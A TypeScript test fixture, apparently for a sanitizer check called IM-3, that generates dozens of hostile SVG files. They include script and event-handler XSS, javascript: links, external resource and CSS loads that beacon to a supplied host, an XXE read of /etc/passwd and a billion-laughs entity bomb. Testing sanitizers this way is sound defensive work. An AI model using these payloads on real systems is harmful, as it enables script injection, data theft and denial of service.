/** Drawings that want to run something or to load something, for IM-3. */

const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';
const HTML = 'http://www.w3.org/1999/xhtml';

/**
 * @param away address of somebody else, without a slash at its end: what is loaded or asked from there got out
 * @returns name and text of each; every script says `away/ran`, everything loaded is under `away/load`
 */
export function hostileSvgs(away: string): [name: string, text: string][] {
  const run = `new Image().src='${away}/ran'`;
  const load = `${away}/load`;
  const draw = (inside: string, root = '') =>
    `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" width="64" height="64"${root}>${inside}</svg>`;
  const foreign = (inside: string) =>
    draw(`<foreignObject width="64" height="64"><div xmlns="${HTML}">${inside}</div></foreignObject>`);
  const code = `data:text/javascript,${encodeURIComponent(run)}`;
  const page = `data:text/html,${encodeURIComponent(`<script>${run}</script>`)}`;
  const escaped = run.replaceAll("'", '&#39;');

  const scripts = [
    `<script>${run}</script>`,
    `<script><![CDATA[${run}]]></script>`,
    `<script type="text/javascript">${run}</script>`,
    `<script type="application/ecmascript">${run}</script>`,
    `<script type="module">${run}</script>`,
    `<script href="${load}"/>`,
    `<script xlink:href="${load}"/>`,
    `<script href="${code}"/>`,
    `<g><defs><symbol><script>${run}</script></symbol></defs></g>`,
    `<title><script>${run}</script></title>`,
    `<h:script xmlns:h="${HTML}">${run}</h:script>`,
    `<script xmlns="${HTML}">${run}</script>`,
    `<script xmlns="${HTML}" src="${load}"></script>`,
    `<x:script xmlns:x="${SVG}">${run}</x:script>`,
    `<script>eval(String.fromCharCode(${[...run].map((one) => one.charCodeAt(0)).join(',')}))</script>`,
    `<script>&#110;ew Image().src='${away}/ran'</script>`,
    `<script>setTimeout("${run}",0)</script>`,
    `<script>import('${load}')</script>`,
    `<script>fetch('${load}')</script>`,
    `<script>location='${load}'</script>`,
    `<script>navigator.sendBeacon('${load}')</script>`,
    `<script>new Worker('data:text/javascript,fetch("${load}")')</script>`,
  ].map((text) => draw(text));
  const handlers = [
    draw('', ` onload="${escaped}"`),
    draw('', ` onload='${run.replaceAll("'", '&quot;')}'`),
    draw('', ` onfocus="${escaped}" tabindex="0" autofocus="autofocus"`),
    ...['onbegin', 'onend', 'onrepeat'].map((name) =>
      draw(
        `<rect width="9" height="9"><animate ${name}="${escaped}" attributeName="x" dur="1ms" repeatCount="2"/></rect>`,
      ),
    ),
    draw(`<set attributeName="x" onbegin="${escaped}"/>`),
    draw(`<animateTransform attributeName="transform" type="rotate" dur="1ms" onbegin="${escaped}"/>`),
    draw(`<image href="data:," onerror="${escaped}"/>`),
    draw(`<image href="x" xlink:href="x" onerror="${escaped}"/>`),
    draw(`<script href="data:," onerror="${escaped}" onload="${escaped}"/>`),
    draw(`<style onload="${escaped}">a{}</style>`),
    draw(`<g onmouseover="${escaped}" onclick="${escaped}"><rect width="64" height="64"/></g>`),
    draw(`<rect width="64" height="64" ONLOAD="${escaped}" onload="${escaped}"/>`),
    draw(`<a href="javascript:${escaped}"><rect width="64" height="64"/></a>`),
    draw(`<a xlink:href="javascript:${escaped}"><text y="20">x</text></a>`),
    draw(
      `<a><animate attributeName="href" to="javascript:${escaped}" dur="1ms" fill="freeze"/><text y="9">x</text></a>`,
    ),
    draw(`<a id="z"/><set href="#z" attributeName="onclick" to="${escaped}"/>`),
    draw(`<use href="data:image/svg+xml,&lt;svg id='a' xmlns='${SVG}' onload='${escaped}'/&gt;#a"/>`),
  ];
  const pages = [
    `<iframe src="${load}"></iframe>`,
    `<iframe src="${page}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${escaped}&lt;/script&gt;"></iframe>`,
    `<iframe src="javascript:${escaped}"></iframe>`,
    `<object data="${load}"></object>`,
    `<object data="${page}" type="text/html"></object>`,
    `<embed src="${load}"/>`,
    `<embed src="${page}" type="text/html"/>`,
    `<img src="${load}"/>`,
    `<img src="x" onerror="${escaped}"/>`,
    `<img srcset="${load} 1x"/>`,
    `<picture><source srcset="${load}"/><img/></picture>`,
    `<video src="${load}" autoplay="autoplay"></video>`,
    `<video poster="${load}"></video>`,
    `<audio src="${load}" autoplay="autoplay"></audio>`,
    `<link rel="stylesheet" href="${load}"/>`,
    `<link rel="preload" as="image" href="${load}"/>`,
    `<meta http-equiv="refresh" content="0;url=${load}"/>`,
    `<base href="${away}/"/><img src="load"/>`,
    `<form action="${load}" id="f"></form><script>f.submit()</script>`,
    `<input autofocus="autofocus" onfocus="${escaped}"/>`,
    `<details open="open" ontoggle="${escaped}">x</details>`,
    `<style>@import url("${load}");</style>`,
    `<div style="background:url(${load});width:9px;height:9px">x</div>`,
    `<script>${run}</script>`,
    `<body xmlns="${HTML}" onload="${escaped}"/>`,
    `<svg xmlns="${SVG}" onload="${escaped}"/>`,
  ].map(foreign);
  const loads = [
    ...['href', 'xlink:href'].flatMap((name) => [
      `<image ${name}="${load}" width="9" height="9"/>`,
      `<use ${name}="${load}#a"/>`,
      `<filter id="f"><feImage ${name}="${load}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
      `<linearGradient id="g" ${name}="${load}#g"/><rect width="9" height="9" fill="url(#g)"/>`,
      `<pattern id="p" ${name}="${load}#p"/><rect width="9" height="9" fill="url(#p)"/>`,
      `<text><textPath ${name}="${load}#t">x</textPath></text>`,
      `<circle r="9"><animateMotion dur="1s"><mpath ${name}="${load}#m"/></animateMotion></circle>`,
    ]),
    `<image href="//${away.split('//')[1]}/load" width="9" height="9"/>`,
    `<g xml:base="${away}/"><image href="load" width="9" height="9"/></g>`,
    `<image width="9" height="9"><set attributeName="href" to="${load}"/></image>`,
    `<rect width="9" height="9" fill="url(${load}#a)"/>`,
    `<rect width="9" height="9" filter="url('${load}#a')"/>`,
    `<rect width="9" height="9" mask="url(${load}#a)"/>`,
    `<rect width="9" height="9" clip-path="url(${load}#a)"/>`,
    `<path d="M0 0L9 9" stroke="red" marker-end="url(${load}#a)"/>`,
    `<rect width="9" height="9" style="mask-image:url(${load})"/>`,
    `<rect width="9" height="9" style="cursor:url(${load}),auto"/>`,
    `<rect width="9" height="9" style="fill:u\\72l(${load}#a)"/>`,
    `<style>@import "${load}";</style>`,
    `<style>@import url(${load});</style>`,
    `<style>\\40import "${load}";</style>`,
    `<style><![CDATA[@import "${load}";]]></style>`,
    `<style>&#64;import "${load}";</style>`,
    `<style>svg{background:url(${load})}</style>`,
    `<style>svg{background-image:image-set("${load}" 1x)}</style>`,
    `<style>rect{mask:url("${load}#a")}</style><rect width="9" height="9"/>`,
    `<style>@font-face{font-family:a;src:url(${load})}text{font-family:a}</style><text y="20">x</text>`,
    `<style>@media all{svg{background:url(${load})}}</style>`,
    `<style>svg{--a:url(${load});background:var(--a)}</style>`,
    `<style>svg{content:url(${load})}</style>`,
    `<style>svg{background:src("${load}")}</style>`,
    `<h:link xmlns:h="${HTML}" rel="stylesheet" href="${load}"/>`,
    `<h:img xmlns:h="${HTML}" src="${load}"/>`,
    `<h:iframe xmlns:h="${HTML}" src="${load}"/>`,
    `<h:meta xmlns:h="${HTML}" http-equiv="refresh" content="0;url=${load}"/>`,
  ].map((text) => draw(text));
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  const prologs = [
    `<?xml-stylesheet href="${load}" type="text/css"?>${draw('')}`,
    `<?xml-stylesheet href="data:text/css,svg{background:url(${load})}" type="text/css"?>${draw('')}`,
    `<?xml version="1.0"?><?xml-stylesheet href="${load}" type="text/xsl"?>${draw('')}`,
    `<!DOCTYPE svg SYSTEM "${load}">${draw('')}`,
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${load}">${draw('')}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${load}">]>${draw('<text>&x;</text>')}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${draw('<text>&x;</text>')}`,
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${load}">%p;]>${draw('')}`,
    `<!DOCTYPE svg [<!ENTITY x "<script xmlns='${SVG}'>${run.replaceAll("'", '&#34;')}</script>">]>${draw('&x;')}`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${escaped}">]>${draw('')}`,
    `<!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "${SVG}">]><svg><script>${run}</script></svg>`,
    `<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]>${draw('<text>&l12;</text>')}`,
  ];
  const groups = { scripts, handlers, pages, loads, prologs };
  return Object.entries(groups).flatMap(([name, texts]) =>
    texts.map((text, at): [string, string] => [`${name} ${at}: ${text.slice(0, 300)}`, text]),
  );
}
